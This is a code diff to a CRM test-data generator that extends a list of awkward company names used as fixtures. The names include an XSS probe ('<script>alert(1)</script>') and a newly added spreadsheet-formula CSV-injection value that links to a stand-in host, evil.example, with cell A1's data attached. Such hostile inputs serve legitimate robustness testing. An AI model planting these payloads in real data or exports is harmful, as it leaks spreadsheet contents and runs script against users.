@@ -70,7 +70,14 @@ function generateTable(type: CrmObjectType, random: SeededRandom, activeCount: n
   return table;
 }
 
-const TRICKY_COMPANY_NAMES = ['Café Münchën GmbH', '株式会社 山田製作所', '🚀 Rocket Labs', '<b>Bold</b> & Co <script>alert(1)</script>'];
+// Names real accounts hold: accents, CJK, emoji, markup, and a spreadsheet formula (CSV injection).
+const TRICKY_COMPANY_NAMES = [
+  'Café Münchën GmbH',
+  '株式会社 山田製作所',
+  '🚀 Rocket Labs',
+  '<b>Bold</b> & Co <script>alert(1)</script>',
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice") Ltd',
+];
 
 function buildCompany(index: number, random: SeededRandom): { properties: Record<string, string | null>; companyId: null } {
   const stem = random.pick(COMPANY_STEMS);
